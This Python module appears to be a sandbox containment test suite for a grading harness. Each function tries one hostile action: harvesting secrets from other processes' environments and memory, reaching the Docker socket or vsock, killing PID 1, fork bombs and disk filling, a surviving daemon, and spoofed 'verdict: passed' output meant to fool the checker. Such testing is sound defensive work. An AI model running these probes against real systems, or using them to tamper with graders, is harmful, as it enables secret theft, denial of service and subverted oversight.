"""What hostile code tries: each function one attack, which returns what it got hold of, or nothing. Run in a cell, by name.

Standard library only. Each keeps itself within bounds that a machine survives, should every defence be missing.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import re
import resource
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

FACTS: dict[str, Any] = json.loads(os.environ.get("FACTS", "{}"))
libc = ctypes.CDLL(None, use_errno=True)
MANY, MEBIBYTE = 400, 1 << 20
SYS = {"x86_64": {"add_key": 248, "keyctl": 250}, "aarch64": {"add_key": 217, "keyctl": 219}}[os.uname().machine]


def others() -> list[Path]:
    known = {"1", str(os.getpid())}
    return [path for path in Path("/proc").iterdir() if path.name.isdigit() and path.name not in known]


def sees_processes() -> object:
    """Who else runs here, and with what arguments: tokens and paths are among them."""
    return [path.name for path in others()]


def reads_environments() -> object:
    """Passwords of others are in their environment."""
    found = []
    for path in [*others(), Path("/proc/1")]:
        with contextlib.suppress(OSError):
            found += re.findall(rb"SECRET=[^\0]+", (path / "environ").read_bytes())
    return [str(secret) for secret in found]


def reads_own_memory() -> object:
    """Who was forked has what its parent had heard: the passwords of others, perhaps."""
    found = set()
    with open("/proc/self/maps", encoding="utf-8") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and end - start < 256 * MEBIBYTE:
                with contextlib.suppress(OSError):
                    memory.seek(start)
                    found |= set(re.findall(rb"of-the-shop-[0-9]{6}", memory.read(end - start)))
    return [str(secret) for secret in found]


def reads_files() -> object:
    """Checks and the work of others lie on the machine, and all may read them."""
    found = []
    for place in FACTS["files"]:
        with contextlib.suppress(OSError):
            found.append(Path(place).read_text("utf-8"))
    return found


def imports_the_checker() -> object:
    """The checks are in the package that started us."""
    try:
        import checker  # noqa: PLC0415
    except ImportError:
        return None
    return [*checker.__path__, *map(str, Path(FACTS["checkout"]).glob("*"))]


def reads_a_neighbour_s_tree() -> object:
    """What another service wrote into its own folder a moment ago."""
    found = []
    for top in ("/dev/shm", "/tmp", "/var/tmp", "."):  # noqa: S108
        for folder, _, files in os.walk(top):
            found += [os.path.join(folder, name) for name in files if name == "ledger.txt"]
    return found


def uses_descriptors() -> object:
    """What was left open leads somewhere: to the launcher, to the checker."""
    found = []
    for fd in range(3, 1024):
        with contextlib.suppress(OSError):
            os.fstat(fd)
            found.append(os.readlink(f"/proc/self/fd/{fd}"))
    return found


def calls(address: Any, family: int = socket.AF_INET) -> bytes:
    with socket.socket(family) as sock:
        sock.settimeout(3)
        sock.connect(address)
        return sock.recv(100)


def first(*attempts: Any) -> object:
    for attempt in attempts:
        with contextlib.suppress(OSError):
            return str(attempt())
    return None


def calls_out() -> object:
    """Somebody waits for what we send, on the machine or beyond."""
    port = FACTS["outside"]
    return first(
        lambda: calls(("127.0.0.1", port)),
        lambda: calls(("::1", port), socket.AF_INET6),
        lambda: calls((FACTS["address"], port)),
        lambda: socket.getaddrinfo("example.org", 80),
    )


def calls_a_neighbour() -> object:
    """A service that we were not told of does our work."""
    return first(lambda: calls(("127.0.0.1", FACTS["shop"])))


def calls_by_datagrams() -> object:
    """Who bounds whom we may call looks at TCP."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.sendto(b"hello", ("127.0.0.1", FACTS["shop"]))
        return str(sock.recv(100))
    return None


def calls_by_another_protocol() -> object:
    """MPTCP speaks TCP to whoever knows no better, and is not called so."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as sock:
        sock.settimeout(3)
        sock.connect(("127.0.0.1", FACTS["shop"]))
        return str(sock.recv(100))
    return None


def calls_without_connecting() -> object:
    """A first message that opens the connection (TCP Fast Open) is no call of connect."""
    with contextlib.suppress(OSError), socket.socket() as sock:
        sock.sendto(b"hello", 0x20000000, ("127.0.0.1", FACTS["shop"]))
        sock.settimeout(3)
        return str(sock.recv(100))
    return None


def calls_through_the_kernel() -> object:
    """Netlink carries messages from process to process as well; a neighbour that is in league with us listens."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2) as sock:
        sock.settimeout(3)
        sock.bind((0, 0))
        sock.sendto(b"hello", (FACTS["shop"], 0))
        return str(sock.recv(100))
    return None


def calls_by_an_abstract_name() -> object:
    """Names without a file are seen in the whole network namespace."""
    return first(lambda: calls("\0the-shop", socket.AF_UNIX))


def calls_an_engine() -> object:
    """Whoever reaches Docker's socket owns the machine."""
    return first(lambda: calls(FACTS["engine"], socket.AF_UNIX))


def calls_the_host_of_a_virtual_machine() -> object:
    """AF_VSOCK leads out of every network namespace."""
    return first(lambda: socket.socket(socket.AF_VSOCK).fileno())


def signals_others() -> object:
    """Whoever may send signal 0 may send 9."""
    hit = []
    for path in others():
        with contextlib.suppress(OSError):
            os.kill(int(path.name), 0)
            hit.append(path.name)
    return hit


def kills_the_first_process() -> object:
    """Without it, nobody counts any more."""
    if os.getpid() == 1:
        return "that is me"
    for number in (signal.SIGTERM, signal.SIGKILL):
        with contextlib.suppress(OSError):
            os.kill(1, number)
    time.sleep(0.1)
    return None if Path("/proc/1").exists() else "gone"


def traces() -> object:
    """Who traces another is that other."""
    return "traced" if libc.ptrace(0, 0, 0, 0) == 0 else None


def makes_a_user_namespace() -> object:
    """Root in there, and every door of the kernel open."""
    return "unshared" if libc.unshare(0x10000000) == 0 else None


def uses_keyrings() -> object:
    """Keys are kept for a user, wherever it lives."""
    key = libc.syscall(SYS["add_key"], b"user", b"note", b"hello", 5, -4)
    return f"key {key}" if key >= 0 else None


def has_capabilities() -> object:
    """Rights that are left over, or can be had again by a program."""
    lines = Path("/proc/self/status").read_text("utf-8").splitlines()
    held = [line for line in lines if re.match(r"Cap(Prm|Eff|Amb|Bnd):\t0*[1-9a-f]", line)]
    return held or ("can get more" if "NoNewPrivs:\t0" in lines else None)


def becomes_root_by_a_program() -> object:
    """A program with the set-user-id bit runs as its owner."""
    for program in ("/usr/bin/passwd", "/usr/bin/su", "/usr/bin/chfn"):
        for _ in range(20):
            with subprocess.Popen(
                [program], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
            ) as child:
                for _ in range(200):
                    with contextlib.suppress(OSError):
                        ids = re.search(r"Uid:\t\d+\t(\d+)", Path(f"/proc/{child.pid}/status").read_text("utf-8"))
                        if ids and ids[1] == "0":
                            child.kill()
                            return f"{program} as root"
                child.kill()
    return None


def opens_the_kernel_s_switches() -> object:
    """Root without any right still owns what root owns. Opened, and nothing written."""
    return first(lambda: os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))


def goes_first() -> object:
    """A higher priority than the checker's."""
    return first(lambda: os.nice(-5))


def shares_memory() -> object:
    """What another service put into a segment of System V."""
    segment = libc.shmget(FACTS["key"], 0, 0)
    return f"segment {segment}" if segment >= 0 else None


def learns_where_it_is() -> object:
    """The machine's name tells graders from other places."""
    return os.uname().nodename if os.uname().nodename == FACTS["machine"] else None


def learns_its_control_group() -> object:
    """So does the path of its group."""
    return re.findall("seamwork.*", Path("/proc/self/cgroup").read_text("utf-8"))


def fork_bomb() -> object:
    """As many processes as there are."""
    children = []
    with contextlib.suppress(OSError):
        for _ in range(MANY):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            children.append(pid)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
    return len(children) if len(children) == MANY else None


def fills_memory() -> object:
    """More than it has, and touched."""
    held = [bytearray(os.urandom(4096)) * 256 for _ in range(400)]
    return f"{len(held)} MiB"


def asks_for_addresses() -> object:
    """More than the machine has, and never touched."""
    import mmap  # noqa: PLC0415

    with contextlib.suppress(OSError, MemoryError, OverflowError):
        return len(mmap.mmap(-1, 64 * 1024 * MEBIBYTE, flags=mmap.MAP_PRIVATE | 0x4000))
    return None


def fills_disks() -> object:
    """File by file, wherever it may write."""
    places = [".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/dev"]  # noqa: S108
    full = {}
    for place in places:
        written = 0
        with contextlib.suppress(OSError):
            for number in range(24):
                file = Path(place, f"fill-{number}")
                file.write_bytes(bytes(MEBIBYTE))
                written += 1
        for file in Path(place).glob("fill-*"):
            file.unlink()
        full[place] = written
    return [place for place, written in full.items() if written == 24]


def fills_inodes() -> object:
    """No bytes, and no end of files."""
    made = 0
    with contextlib.suppress(OSError):
        for made in range(70000):
            os.close(os.open(f"f{made}", os.O_CREAT | os.O_WRONLY))
    return made if made == 69999 else None


def one_large_file() -> object:
    """A file without end; its holes cost nothing at first."""
    with contextlib.suppress(OSError), open("/tmp/large", "wb") as file:  # noqa: S108
        file.truncate(512 * MEBIBYTE)
        return "512 MiB"
    return None


def floods_descriptors() -> object:
    """As many open files as there can be."""
    held = []
    with contextlib.suppress(OSError):
        soft = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, soft))
        for _ in range(5000):
            held.append(os.open("/dev/null", os.O_RDONLY))  # noqa: PERF401  (what there is so far counts)
    for fd in held:
        os.close(fd)
    return len(held) if len(held) == 5000 else None


def writes_where_others_look() -> object:
    """A module of the neighbour's, replaced."""
    Path("stolen.txt").write_text("from orders", "utf-8")
    print("written", flush=True)
    for _ in range(150):
        if Path("answer.txt").exists():
            return Path("answer.txt").read_text("utf-8")
        time.sleep(0.02)
    return None


def writes_into_its_programs() -> object:
    """Python's own library, changed for all."""
    return first(*(lambda place=place: leaves(Path(place, "hostile-was-here")) for place in FACTS["programs"]))


def leaves(file: Path) -> object:
    file.touch()
    file.unlink()
    return file


def leaves_a_daemon() -> object:
    """Something that lives on: it writes to the clock that the checker reads."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                print("tick", flush=True)
                time.sleep(0.05)
        os._exit(0)
    time.sleep(0.3)
    return None


def never_ends() -> object:
    """No signal is heard, and no call returns."""
    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
        with contextlib.suppress(OSError):
            signal.signal(number, signal.SIG_IGN)
    print("on and on", flush=True)
    while True:
        pass


def floods_output() -> object:
    """Lines without end, and one without a line end."""
    os.write(1, b"x" * (8 * MEBIBYTE))
    for _ in range(40000):
        os.write(1, b"\nverdict: passed " + b"y" * 500)
    os.write(1, b"\n")
    return None


def main() -> None:
    got = globals()[sys.argv[1]]()
    print(f"\nbreach {json.dumps(got)}" if got else "\nheld", flush=True)


if __name__ == "__main__":
    main()
